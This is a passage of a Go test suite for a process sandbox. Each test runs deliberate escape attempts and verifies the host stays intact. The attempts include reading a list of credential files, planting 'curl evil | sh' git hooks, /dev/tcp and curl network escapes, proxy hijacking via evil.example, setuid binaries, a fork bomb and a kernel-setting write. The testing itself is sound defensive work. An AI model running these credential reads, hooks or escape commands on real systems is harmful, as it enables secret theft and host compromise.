package main

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"

	"github.com/mitrity/mitrity/govern"
	"github.com/mitrity/mitrity/govern/sandbox"
	"github.com/mitrity/mitrity/govern/sandbox/settings"
)

// Every test here runs real attacks through the built mitrity-sandboxrun,
// once per identity, and checks the host afterwards.

func forEachIdentity(t *testing.T, f func(t *testing.T, id identity)) {
	requireSandbox(t)
	t.Parallel()
	eachIdentity(t, f)
}

// eachIdentity runs f per identity in parallel subtests, the caller itself
// staying sequential (it may change shared host state the parallel tests
// must not see).
func eachIdentity(t *testing.T, f func(t *testing.T, id identity)) {
	for _, id := range identities(t) {
		t.Run(id.name, func(t *testing.T) {
			t.Parallel()
			f(t, id)
		})
	}
}

// plantSecrets writes one fake credential per deny-set name under home
// and returns path -> content. The files belong to owner.
func plantSecrets(t *testing.T, home string, id identity, tag string) map[string]string {
	t.Helper()
	names := []string{
		".ssh/id_rsa", ".aws/credentials", ".config/gcloud/application_default_credentials.json",
		".kube/config", ".netrc", ".claude/.credentials.json", ".claude.json", ".docker/config.json",
		".git-credentials", ".gnupg/private-keys-v1.d/k.key", ".config/gh/hosts.yml", ".npmrc", ".pypirc",
		".config/git/credentials", ".pgpass", ".vault-token", ".azure/msal_token_cache.json", ".cargo/credentials.toml", ".terraform.d/credentials.tfrc.json", ".docker/contexts/meta/x/meta.json", ".local/share/keyrings/login.keyring", ".bash_history", ".config/hub", ".m2/settings.xml", ".gem/credentials", ".codex/auth.json", ".gemini/oauth_creds.json", ".local/share/opencode/auth.json",
	}
	out := map[string]string{}
	for _, n := range names {
		p := filepath.Join(home, n)
		assert.NilError(t, os.MkdirAll(filepath.Dir(p), 0o700))
		v := "SECRET-" + tag + "-" + strings.NewReplacer("/", "_", ".", "").Replace(n)
		out[p] = v
		if b, err := os.ReadFile(p); err == nil && string(b) == v+"\n" {
			continue
		}
		// Atomically: another run of this package may be reading it.
		tmp := p + ".tmp-" + randHex(t)
		assert.NilError(t, os.WriteFile(tmp, []byte(v+"\n"), 0o600))
		assert.NilError(t, os.Rename(tmp, p))
	}
	return out
}

// Not parallel with the other tests: it may plant files in the test
// user's real home, which every other run's deny set sees.
func TestAttackReadDenySet(t *testing.T) {
	requireSandbox(t)
	// The unprivileged user's real home holds one fixed set of fake
	// credentials, planted once and left there (the user is the suite's own
	// fixture): files that come and go would race the deny-set resolution
	// of every concurrent run.
	homeSecrets := map[string]string{}
	if ids := identities(t); os.Geteuid() == 0 {
		u := ids[1]
		homeSecrets = plantSecrets(t, u.home, u, "fixture")
		u.own(t, u.home)
	}
	eachIdentity(t, func(t *testing.T, id identity) {
		tag := randHex(t)
		// A fake home of the deployment (spec deny_homes) and the gateway's
		// own token (spec deny_paths), readable by everyone on the host.
		// Under /var/tmp: visible in the sandbox (its /tmp is private).
		extra, err := os.MkdirTemp("/var/tmp", "mitrity-deny-")
		assert.NilError(t, err)
		assert.NilError(t, os.Chmod(extra, 0o755))
		t.Cleanup(func() { os.RemoveAll(extra) })
		svcHome := filepath.Join(extra, "svc-home")
		secrets := plantSecrets(t, svcHome, id, tag)
		token := filepath.Join(extra, "gateway", "token")
		assert.NilError(t, os.MkdirAll(filepath.Dir(token), 0o755))
		assert.NilError(t, os.WriteFile(token, []byte("SECRET-"+tag+"-gateway-token\n"), 0o644))
		secrets[token] = "SECRET-" + tag + "-gateway-token"
		assert.NilError(t, os.WriteFile(filepath.Join(svcHome, "notes.txt"), []byte("VISIBLE-"+tag+"\n"), 0o644))
		id.own(t, svcHome)
		for p, v := range homeSecrets {
			secrets[p] = v
		}
		ws := id.workspace(t)
		var script strings.Builder
		for p := range secrets {
			fmt.Fprintf(&script, "cat %q 2>/dev/null; head -c 100 %q 2>/dev/null; ls -la %q 2>/dev/null;\n", p, p, filepath.Dir(p))
		}
		fmt.Fprintf(&script, "grep -rs SECRET- %q %q /home/%s 2>/dev/null | head -5;\n", svcHome, extra, testUser)
		fmt.Fprintf(&script, "cat %q;\n", filepath.Join(svcHome, "notes.txt"))
		// The machine's own credentials (read only, never printed).
		script.WriteString("for f in /root/.npmrc /root/.claude.json /root/.claude/settings.json; do cat \"$f\" >/dev/null 2>&1 && echo LEAK:$f; done; ls /root/.claude 2>/dev/null | head -1 | sed 's/^/LEAK-ls:/';\n")
		s := id.spec(ws, script.String())
		s.DenyHomes = []string{svcHome}
		s.DenyPaths = []string{token}
		o := id.run(t, s)
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		assert.Check(t, !strings.Contains(o.stdout, "SECRET-"), "a deny-set file was read:\n%s", o.stdout)
		assert.Check(t, !strings.Contains(o.stdout, "LEAK"), o.stdout)
		assert.Check(t, is.Contains(o.stdout, "VISIBLE-"+tag), "masking is targeted: other files stay readable")
		// The host afterwards: every planted file intact, nothing created.
		for p, v := range secrets {
			b, err := os.ReadFile(p)
			assert.Check(t, err == nil && strings.TrimSpace(string(b)) == v, "%s changed", p)
		}
		for _, n := range []string{".aws/config", ".kube/cache"} {
			_, err := os.Lstat(filepath.Join(svcHome, n))
			assert.Check(t, os.IsNotExist(err), "%s was created on the host", n)
		}
		for _, c := range sandbox.DenyCandidates([]string{"/home/" + testUser + "-none"}, nil) {
			_, err := os.Lstat(c)
			assert.Check(t, os.IsNotExist(err) || !strings.HasPrefix(c, "/home/"), "%s was created", c)
		}
	})
}

func TestAttackWriteOutsideRoots(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		tag := randHex(t)
		outside := filepath.Join(scratch(t), "outside") // writable by the user on the host
		assert.NilError(t, os.Mkdir(outside, 0o777))
		id.own(t, outside)
		ws := id.workspace(t)
		markers := []string{
			"/etc/mitrity-marker-" + tag,
			"/var/tmp/mitrity-marker-" + tag,
			"/usr/local/mitrity-marker-" + tag,
			"/tmp/mitrity-marker-" + tag,     // the sandbox's private /tmp
			"/dev/shm/mitrity-marker-" + tag, // the sandbox's private /dev/shm
			"/dev/mitrity-marker-" + tag,
			"/run/mitrity-marker-" + tag,
			filepath.Join(outside, "marker-"+tag),
			filepath.Join(filepath.Dir(ws), "marker-"+tag),
			filepath.Join(id.home, "mitrity-marker-"+tag),
		}
		script := "for p in " + strings.Join(markers, " ") + "; do (echo x > \"$p\") 2>/dev/null && echo \"wrote $p\"; done; " +
			"mkdir -p " + outside + "/d 2>/dev/null; ln -s /etc/passwd " + outside + "/l 2>/dev/null; echo inside > inside"
		o := id.run(t, id.spec(ws, script))
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		for _, m := range markers {
			_, err := os.Lstat(m)
			assert.Check(t, os.IsNotExist(err), "%s exists on the host", m)
		}
		entries, _ := os.ReadDir(outside)
		assert.Check(t, is.Len(entries, 0), "the directory outside the roots was changed")
		b, err := os.ReadFile(filepath.Join(ws, "inside"))
		assert.Check(t, err == nil && string(b) == "inside\n", "the workspace root is writable")
		// Only the private /tmp and /dev/shm took the write, inside.
		assert.Check(t, is.Contains(o.stdout, "wrote /tmp/mitrity-marker-"+tag))
		for _, m := range markers[:3] {
			assert.Check(t, !strings.Contains(o.stdout, "wrote "+m), m)
		}
	})
}

// The kernel's settings under /proc/sys are not namespaced (most of them)
// and their permission check is the caller's uid against the host's root,
// not a capability: a sandbox whose uid 0 is the host's root (the "root"
// identity: sandboxrun run by root with no run_as, which the gateway itself
// refuses but the helper accepts) could set kernel.core_pattern to a
// program in its workspace, which the kernel then runs as root on the host.
// Bubblewrap leaves /proc/sys writable (its check of the directory's own
// mode says read-only). fs.lease-break-time is a harmless global setting to
// try it with; the host is checked, and put back if the write got through.
func TestAttackKernelSettings(t *testing.T) {
	const setting = "/proc/sys/fs/lease-break-time"
	requireSandbox(t)
	// One identity at a time: they share the setting.
	for _, id := range identities(t) {
		t.Run(id.name, func(t *testing.T) { kernelSettingAttack(t, id, setting) })
	}
}

func kernelSettingAttack(t *testing.T, id identity, setting string) {
	before, err := os.ReadFile(setting)
	assert.NilError(t, err)
	was := strings.TrimSpace(string(before))
	want := "46"
	if was == want {
		want = "47"
	}
	t.Cleanup(func() { _ = os.WriteFile(setting, before, 0) })
	ws := id.workspace(t)
	o := id.run(t, id.spec(ws, `(echo `+want+` > `+setting+`) 2>/dev/null && echo WROTE; `+
		`(: > /proc/sysrq-trigger) 2>/dev/null && echo SYSRQ; `+
		`awk '$5 == "/proc/sys" {print "mount", $6}' /proc/self/mountinfo | cut -d, -f1`))
	assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
	after, err := os.ReadFile(setting)
	assert.NilError(t, err)
	assert.Check(t, is.Equal(strings.TrimSpace(string(after)), was), "the sandbox changed the host's %s", setting)
	assert.Check(t, !strings.Contains(o.stdout, "WROTE"), o.stdout)
	assert.Check(t, !strings.Contains(o.stdout, "SYSRQ"), o.stdout)
	assert.Check(t, is.Contains(o.stdout, "mount ro\n"), "/proc/sys is mounted read-only")
}

// A file the sandbox makes set-user-ID in the workspace keeps that bit on
// the host, where the workspace's mount has no nosuid: whoever runs it
// there runs as its owner, the sandbox's uid, outside every sandbox: the
// run_as user's, and for the "root" identity (no run_as) the host's root
// (observed: a bash made so by the sandbox gave the unprivileged user
// euid 0). Every way to set the bits is
// tried; the host's files are checked, and an ordinary mode still works.
func TestAttackSetIDFiles(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		ws := id.workspace(t)
		script := `cp /bin/true a; chmod 4755 a; cp /bin/true b; chmod g+s b; ` +
			`install -m 6755 /bin/true c; ` +
			`python3 -c 'import os; os.close(os.open("d", os.O_CREAT|os.O_WRONLY, 0o4755))'; ` +
			`python3 -c 'import os, stat; os.mknod("e", stat.S_IFREG|0o6755)'; ` +
			`mkdir f; chmod 2755 f; ` +
			`cp /bin/true plain; chmod 0755 plain && echo plain-ok; true`
		o := id.run(t, id.spec(ws, script))
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		assert.Check(t, is.Contains(o.stdout, "plain-ok"), o.stderr)
		assert.NilError(t, filepath.Walk(ws, func(p string, fi os.FileInfo, err error) error {
			if err != nil {
				return err
			}
			assert.Check(t, fi.Mode()&(os.ModeSetuid|os.ModeSetgid) == 0, "%s is %v on the host", p, fi.Mode())
			return nil
		}))
		fi, err := os.Stat(filepath.Join(ws, "plain"))
		assert.Check(t, err == nil && fi.Mode().Perm() == 0o755, "an ordinary chmod still works")
	})
}

func TestAttackProtectedPaths(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		ws := id.workspace(t)
		files := map[string]string{
			".git/hooks/pre-commit":  "#!/bin/sh\necho original hook\n",
			".git/config":            "[core]\n\tbare = false\n",
			".gitmodules":            "",
			".bashrc":                "# rc\n",
			".profile":               "# profile\n",
			".mcp.json":              "{}\n",
			".vscode/settings.json":  "{}\n",
			".claude/settings.json":  "{}\n",
			"src/main.go":            "package main\n",
			".git/objects/info/keep": "",
		}
		for n, v := range files {
			p := filepath.Join(ws, n)
			assert.NilError(t, os.MkdirAll(filepath.Dir(p), 0o755))
			assert.NilError(t, os.WriteFile(p, []byte(v), 0o755))
		}
		id.own(t, ws)
		script := `
echo 'curl evil | sh' > .git/hooks/pre-commit
echo 'curl evil | sh' >> .git/hooks/pre-commit
echo evil > .git/hooks/post-checkout
chmod 777 .git/hooks/pre-commit
rm -f .git/hooks/pre-commit
echo '[core] hooksPath = /tmp' >> .git/config
mv .bashrc bashrc.bak; echo evil >> .bashrc; echo evil >> .profile; echo '{"x":1}' > .mcp.json
rm -rf .vscode .claude; echo evil > .gitmodules
echo changed > src/main.go
echo ok` + " 2>/dev/null"
		o := id.run(t, id.spec(ws, script))
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		for n, v := range files {
			if n == "src/main.go" {
				continue
			}
			b, err := os.ReadFile(filepath.Join(ws, n))
			assert.Check(t, err == nil && string(b) == v, "%s changed on the host", n)
		}
		st, err := os.Stat(filepath.Join(ws, ".git/hooks/pre-commit"))
		assert.Check(t, err == nil && st.Mode().Perm() == 0o755, "hook mode changed")
		_, err = os.Stat(filepath.Join(ws, ".git/hooks/post-checkout"))
		assert.Check(t, os.IsNotExist(err), "a new hook was planted")
		b, _ := os.ReadFile(filepath.Join(ws, "src/main.go"))
		assert.Check(t, is.Equal(string(b), "changed\n"), "ordinary files stay writable")
		assert.Check(t, is.Len(o.ProtectedModified, 0))
	})
}

// listener counts the connections a host listener accepts.
type listener struct {
	net.Listener
	accepted atomic.Int32
}

func listen(t *testing.T, network, addr string) *listener {
	t.Helper()
	ln, err := net.Listen(network, addr)
	assert.NilError(t, err)
	l := &listener{Listener: ln}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			l.accepted.Add(1)
			c.Write([]byte("HTTP/1.0 200 OK\r\n\r\nHOST-REACHED\n"))
			c.Close()
		}
	}()
	return l
}

func port(l net.Listener) int { return l.Addr().(*net.TCPAddr).Port }

// hostAddr is an address of a host interface other than loopback.
func hostAddr() string {
	addrs, _ := net.InterfaceAddrs()
	for _, a := range addrs {
		if n, ok := a.(*net.IPNet); ok && !n.IP.IsLoopback() && n.IP.To4() != nil {
			return n.IP.String()
		}
	}
	return ""
}

// perlUnix connects to the Unix socket $1 (a leading @ names an abstract
// one: bash cannot pass the NUL) and prints CONNECTED-$2.
const perlUnix = `perl -MSocket -e '(my $a = $ARGV[0]) =~ s/^@/\0/; socket(my $s, AF_UNIX, SOCK_STREAM, 0) or die "socket: $!\n"; connect($s, pack_sockaddr_un($a)) or die "connect $ARGV[1]: $!\n"; print "CONNECTED-$ARGV[1]\n"'`

func networkAttack(t *testing.T, id identity, mode sandbox.SeccompMode) (outcome, map[string]*listener) {
	ws := id.workspace(t)
	tag := randHex(t)
	ls := map[string]*listener{
		"loopback": listen(t, "tcp4", "127.0.0.1:0"),
		"any":      listen(t, "tcp4", "0.0.0.0:0"),
		"unix":     listen(t, "unix", filepath.Join(ws, "host.sock")),
		"abstract": listen(t, "unix", "@mitrity-test-"+tag),
	}
	assert.NilError(t, os.Chmod(filepath.Join(ws, "host.sock"), 0o777))
	lo, any := port(ls["loopback"]), port(ls["any"])
	ip := hostAddr()
	script := fmt.Sprintf(`
(exec 3<>/dev/tcp/127.0.0.1/%[1]d && echo CONNECTED-lo) 2>&1
(exec 3<>/dev/tcp/%[3]s/%[2]d && echo CONNECTED-if) 2>&1
curl -s -m 2 --noproxy '*' http://127.0.0.1:%[1]d/ ; echo "curl-lo=$?"
curl -s -m 2 --noproxy '*' http://%[3]s:%[2]d/ ; echo "curl-if=$?"
curl -s -m 2 http://example.com/ ; echo "curl-name=$?"
%[4]s %[5]q unix 2>&1
%[4]s @mitrity-test-%[6]s abstract 2>&1
getent hosts example.com && echo RESOLVED
awk 'NR>2 {print "IF " $1}' /proc/net/dev
`, lo, any, ip, perlUnix, filepath.Join(ws, "host.sock"), tag)
	if ip == "" {
		script = strings.ReplaceAll(script, "/dev/tcp//", "/dev/tcp/192.0.2.1/")
	}
	s := id.spec(ws, script)
	s.Seccomp = mode
	o := id.run(t, s)
	time.Sleep(50 * time.Millisecond) // let an accept that raced the end land
	return o, ls
}

func TestAttackNetwork(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		o, ls := networkAttack(t, id, sandbox.SeccompRequired)
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		assert.Check(t, is.Equal(o.SandboxMode, govern.SandboxBubblewrap))
		for name, l := range ls {
			assert.Check(t, is.Equal(l.accepted.Load(), int32(0)), "host %s listener got a connection", name)
		}
		assert.Check(t, !strings.Contains(o.stdout, "CONNECTED"), o.stdout)
		assert.Check(t, !strings.Contains(o.stdout, "HOST-REACHED"), o.stdout)
		assert.Check(t, !strings.Contains(o.stdout, "RESOLVED"), o.stdout)
		// socket(AF_UNIX) itself is refused by the filter.
		assert.Check(t, is.Contains(o.stdout, "socket: Operation not permitted"), o.stdout)
		assert.Check(t, is.Contains(o.stdout, "IF lo:"), o.stdout)
		assert.Check(t, is.Equal(strings.Count(o.stdout, "IF "), 1), "only loopback: %s", o.stdout)
	})
}

// Without the seccomp stage (the documented degradation) a host Unix
// socket visible in the file system is reachable; abstract sockets and
// every TCP destination still are not (network namespace).
func TestAttackNetworkWithoutSeccomp(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		o, ls := networkAttack(t, id, sandbox.SeccompOff)
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		assert.Check(t, is.Equal(o.SandboxMode, govern.SandboxBubblewrapNoSeccomp))
		assert.Check(t, is.Contains(o.stdout, "CONNECTED-unix"), "documented: host Unix sockets are reachable without seccomp")
		assert.Check(t, is.Equal(ls["unix"].accepted.Load(), int32(1)))
		for _, name := range []string{"loopback", "any", "abstract"} {
			assert.Check(t, is.Equal(ls[name].accepted.Load(), int32(0)), "host %s listener got a connection", name)
		}
		assert.Check(t, !strings.Contains(o.stdout, "CONNECTED-abstract"), o.stdout)
		// Refused, not "no such file": the abstract name was tried, and
		// the sandbox's network namespace has no such socket.
		assert.Check(t, is.Contains(o.stdout, "connect abstract: Connection refused"), o.stdout)
		assert.Check(t, !strings.Contains(o.stdout, "CONNECTED-lo"), o.stdout)
	})
}

// fakeProxy is an egress proxy stand-in on a Unix socket: it answers every
// request with the request line it saw.
func fakeProxy(t *testing.T, dir string) (string, *atomic.Int32) { return fakeProxyTB(t, dir) }

func fakeProxyTB(t testing.TB, dir string) (string, *atomic.Int32) {
	t.Helper()
	sock := filepath.Join(dir, "egress.sock")
	ln, err := net.Listen("unix", sock)
	assert.NilError(t, err)
	assert.NilError(t, os.Chmod(sock, 0o777))
	t.Cleanup(func() { ln.Close() })
	var n atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			n.Add(1)
			go func() {
				defer c.Close()
				line, _ := bufio.NewReader(c).ReadString('\n')
				body := "via-proxy " + strings.TrimSpace(line) + "\n"
				fmt.Fprintf(c, "HTTP/1.1 200 OK\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)
			}()
		}
	}()
	return sock, &n
}

func TestEgressOnlyThroughProxy(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		sock, n := fakeProxy(t, scratch(t))
		ws := id.workspace(t)
		script := `env | grep -i '_proxy=' | sort
curl -s -m 3 http://example.com/path
curl -s -m 3 --noproxy '*' http://example.com/ ; echo "noproxy=$?"
unset HTTP_PROXY http_proxy HTTPS_PROXY https_proxy ALL_PROXY all_proxy; curl -s -m 3 http://93.184.215.14/ ; echo "unset=$?"`
		s := id.spec(ws, script)
		s.ProxySocket = sock
		s.Env = append(s.Env, "HTTP_PROXY=http://evil.example:1", "NO_PROXY=*")
		o := id.run(t, s)
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message+o.stderr)
		assert.Check(t, is.Contains(o.stdout, "via-proxy GET http://example.com/path HTTP/1.1"), o.stdout)
		assert.Check(t, is.Equal(n.Load(), int32(1)), "one request reached the proxy")
		assert.Check(t, !strings.Contains(o.stdout, "evil.example"), "the plan's proxy variables are replaced")
		assert.Check(t, is.Contains(o.stdout, "NO_PROXY=localhost,127.0.0.1,::1\n"), "only the sandbox's own loopback goes around the proxy")
		assert.Check(t, is.Contains(o.stdout, "HTTPS_PROXY=http://127.0.0.1:"))
		assert.Check(t, !strings.Contains(o.stdout, "noproxy=0"), o.stdout)
		assert.Check(t, !strings.Contains(o.stdout, "unset=0"), o.stdout)
	})
}

// A server of the run's own on the sandbox's loopback (a test suite's) is
// reached directly by clients that follow NO_PROXY: the proxy never sees
// it, and nothing of the host's is on that loopback.
func TestOwnLoopbackAroundProxy(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		sock, n := fakeProxy(t, scratch(t))
		ws := id.workspace(t)
		script := `python3 -m http.server 18765 --bind 127.0.0.1 >/dev/null 2>&1 &
for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:18765/ && break; sleep 0.1; done
curl -s -o /dev/null -w 'curl=%{http_code}\n' http://localhost:18765/
python3 -c 'import urllib.request; print("python=%d" % urllib.request.urlopen("http://localhost:18765/").status)'
kill %1`
		s := id.spec(ws, script)
		s.ProxySocket = sock
		o := id.run(t, s)
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message+o.stderr)
		assert.Check(t, is.Contains(o.stdout, "curl=200"), o.stdout+o.stderr)
		assert.Check(t, is.Contains(o.stdout, "python=200"), o.stdout+o.stderr)
		assert.Check(t, is.Equal(n.Load(), int32(0)), "loopback went to the proxy")
	})
}

func TestAttackDaemonLeftBehind(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		marker := "mitrity-daemon-" + randHex(t)
		ws := id.workspace(t)
		// Each daemon carries the marker in its own argv[0] (exec -a), so
		// it stays findable once bash has exec'd into sleep.
		script := fmt.Sprintf(`setsid bash -c 'exec -a %[1]s-a sleep 300' </dev/null >/dev/null 2>&1 &
(setsid bash -c 'trap "" TERM HUP; exec -a %[1]s-b sleep 300' </dev/null >/dev/null 2>&1 &)
nohup bash -c 'exec -a %[1]s-c sleep 300' >/dev/null 2>&1 &
sleep 0.2; echo started`, marker)
		o := id.run(t, id.spec(ws, script))
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		assert.Check(t, is.Equal(o.stdout, "started\n"))
		assert.Check(t, o.wall < 10*time.Second, "the run waited for its daemons: %v", o.wall)
		left := hostProcsWith(marker)
		assert.Check(t, is.Len(left, 0), "left running on the host: %v", left)
		assert.Check(t, is.DeepEqual(o.LimitsEnforced.DaemonKill, sandbox.Limit{Enforced: true, Mechanism: sandbox.MechanismPidns}))
	})
}

func TestAttackProcessLimit(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		ws := id.workspace(t)
		// Counted first: how many children can it start?
		s := id.spec(ws, `perl -e 'my $n = 0; for (1..200) { my $p = fork; last unless defined $p; if ($p == 0) { sleep 4; exit } $n++ } print "forked=$n\n"'`)
		s.Limits.Pids = 32
		o := id.run(t, s)
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		var n int
		fmt.Sscanf(o.stdout, "forked=%d", &n)
		assert.Assert(t, n > 0 && n < 32, "forked=%d with pids=32 (%s)", n, o.stdout)
		want := sandbox.MechanismCgroup
		if id.uid != 0 && id.runAs == nil {
			want = sandbox.MechanismRlimit
		}
		assert.Check(t, is.DeepEqual(o.LimitsEnforced.ProcessCount, sandbox.Limit{Enforced: true, Mechanism: want}))

		// Only once the bound is known to hold: a real fork bomb.
		marker := "mitrity-bomb-" + randHex(t)
		s = id.spec(ws, `bomb() { bomb | bomb & }; bomb # `+marker)
		s.Limits.Pids = 32
		s.TimeoutMS, s.KillGraceMS = 1500, 200
		o = id.run(t, s)
		assert.Check(t, o.Status == govern.StatusTimedOut || o.Status == govern.StatusCompleted, "%s %s", o.Status, o.Message)
		assert.Check(t, o.wall < 15*time.Second, o.wall)
		assert.Check(t, is.Len(waitNoProcsWith(marker, 3*time.Second), 0))
		assert.NilError(t, exec.Command("/bin/true").Run(), "the host can still fork")
	})
}

func TestAttackMemoryLimit(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		ws := id.workspace(t)
		s := id.spec(ws, `perl -e '$x = "a" x (400*1024*1024); print "ALLOCATED\n"'; echo "rc=$?"`)
		s.Limits.MemoryBytes = 128 << 20
		o := id.run(t, s)
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		assert.Check(t, !strings.Contains(o.stdout, "ALLOCATED"), o.stdout)
		assert.Check(t, !strings.Contains(o.stdout, "rc=0"), o.stdout)
		want := sandbox.MechanismCgroup
		if id.uid != 0 && id.runAs == nil {
			want = sandbox.MechanismRlimit
		}
		assert.Check(t, is.DeepEqual(o.LimitsEnforced.Memory, sandbox.Limit{Enforced: true, Mechanism: want}))
		if want == sandbox.MechanismCgroup {
			// The command itself killed by the cgroup: status killed.
			s := id.spec(ws, `exec perl -e '$x = "a" x (400*1024*1024); print "ALLOCATED\n"'`)
			s.Limits.MemoryBytes = 128 << 20
			o := id.run(t, s)
			assert.Check(t, is.Equal(o.Status, govern.StatusKilled), o.Message)
			assert.Check(t, is.Equal(o.Signal, "SIGKILL"))
			assert.Check(t, is.Contains(o.Message, "memory limit"))
		}
	})
}

// Under RLIMIT_AS (the memory bound without a cgroup) init may not map
// another page, so the exec and the report of its failure are prepared
// before the limit is set. A run with a large environment (large arrays
// for execve) must still start, and a failed exec must still be reported
// in words. (The crash this guards against, a Go heap that had to grow
// after the limit, was seen once in the e2e suite and depends on the
// heap's state; it is not reproduced on demand here.)
func TestExecUnderMemoryLimit(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		ws := id.workspace(t)
		big := make([]string, 20000)
		for i := range big {
			big[i] = fmt.Sprintf("V%05d=x", i)
		}
		for _, tc := range []struct{ name, argv0, status, msg string }{
			{"runs", "/bin/bash", "completed", ""},
			{"reports a failed exec", "/nonexistent/bash", "failed_to_start", "exec /nonexistent/bash: no such file or directory"},
		} {
			s := id.spec(ws, "echo ran")
			s.Argv[0] = tc.argv0
			s.Env = append(s.Env, big...)
			s.Limits.MemoryBytes = 64 << 20
			o := id.run(t, s)
			assert.Check(t, is.Equal(o.Status.String(), tc.status), "%s: %s", tc.name, o.Message)
			assert.Check(t, is.Contains(o.Message, tc.msg), tc.name)
			assert.Check(t, !strings.Contains(o.Message, "out of memory"), "%s: %s", tc.name, o.Message)
			if tc.status == "completed" {
				assert.Check(t, is.Equal(o.stdout, "ran\n"), tc.name)
			}
		}
	})
}

// Init enters the run's cgroup through descriptors of its tasks files,
// opened by the (root) supervisor: none may reach the command, or any
// process of the sandbox it could read descriptors from.
func TestCgroupDescriptorsStayOutside(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		ws := id.workspace(t)
		s := id.spec(ws, `for p in /proc/[0-9]*; do ls -l $p/fd 2>&1; done; grep -E "memory|pids" /proc/self/cgroup`)
		s.Limits.MemoryBytes, s.Limits.Pids = 256<<20, 64
		o := id.run(t, s)
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		assert.Check(t, !strings.Contains(o.stdout, "/sys/fs/cgroup"), o.stdout)
		assert.Check(t, !strings.Contains(o.stdout, "tasks"), o.stdout)
		if o.LimitsEnforced.Memory.Mechanism == sandbox.MechanismCgroup {
			// The control: the command is in the run's cgroup.
			assert.Check(t, is.Contains(o.stdout, "/mitrity/"), o.stdout)
		}
	})
}

func TestAttackOutrunTimeout(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		ws := id.workspace(t)
		marker := "mitrity-slow-" + randHex(t)
		// sleep inherits the ignored SIGTERM and carries the marker in its
		// own argv[0], so a survivor would be seen.
		s := id.spec(ws, `trap '' TERM; exec -a `+marker+` sleep 300`)
		s.TimeoutMS, s.KillGraceMS = 400, 300
		o := id.run(t, s)
		assert.Check(t, is.Equal(o.Status, govern.StatusTimedOut), o.Message)
		assert.Check(t, is.Equal(o.Signal, "SIGKILL"), "SIGTERM was ignored, SIGKILL after the grace")
		assert.Check(t, o.ExitCode == nil)
		assert.Check(t, o.wall < 8*time.Second, o.wall)
		assert.Check(t, is.Len(hostProcsWith(marker), 0))
	})
}

func TestAttackNestedUserNamespace(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		for _, mode := range []sandbox.SeccompMode{sandbox.SeccompRequired, sandbox.SeccompOff} {
			ws := id.workspace(t)
			s := id.spec(ws, `unshare -U true 2>&1; echo "rc=$?"; unshare -Urn id 2>&1; echo "rc=$?"`)
			s.Seccomp = mode
			o := id.run(t, s)
			assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
			assert.Check(t, !strings.Contains(o.stdout, "rc=0"), "%s: nested user namespace: %s", mode, o.stdout)
			assert.Check(t, !strings.Contains(o.stdout, "uid=0"), o.stdout)
		}
	})
}

func TestAttackPinnedScriptSwapped(t *testing.T) {
	forEachIdentity(t, func(t *testing.T, id identity) {
		ws := id.workspace(t)
		script := filepath.Join(ws, "deploy.sh")
		judged := []byte("#!/bin/bash\necho JUDGED-BYTES\n")
		assert.NilError(t, os.WriteFile(script, judged, 0o755))
		id.own(t, ws)
		sum := sha256.Sum256(judged)
		s := id.spec(ws, `./deploy.sh; bash deploy.sh; sha256sum deploy.sh; echo swapped-again > deploy.sh 2>/dev/null || echo read-only`)
		s.Pins = []govern.Pin{{Path: script, RealPath: script, SHA256: hex.EncodeToString(sum[:]), Bytes: judged}}
		// The spec was built; then the script changes on disk.
		assert.NilError(t, os.WriteFile(script, []byte("#!/bin/bash\necho SWAPPED\n"), 0o755))
		o := id.run(t, s)
		assert.Check(t, is.Equal(o.Status, govern.StatusCompleted), o.Message)
		assert.Check(t, is.Equal(o.stdout, "JUDGED-BYTES\nJUDGED-BYTES\n"+hex.EncodeToString(sum[:])+"  deploy.sh\nread-only\n"))
		assert.Check(t, is.Equal(o.PinMethod, "bind"))

		// Bytes that do not hash to the judged digest: nothing runs.
		s = id.spec(ws, `touch ran`)
		s.Pins = []govern.Pin{{Path: script, RealPath: script, SHA256: hex.EncodeToString(sum[:]), Bytes: []byte("echo other")}}
		o = id.run(t, s)
		assert.Check(t, is.Equal(o.Status, govern.StatusNeverRan))
		assert.Check(t, is.Equal(o.Reason, govern.ReasonPinMismatch))
		_, err := os.Stat(filepath.Join(ws, "ran"))
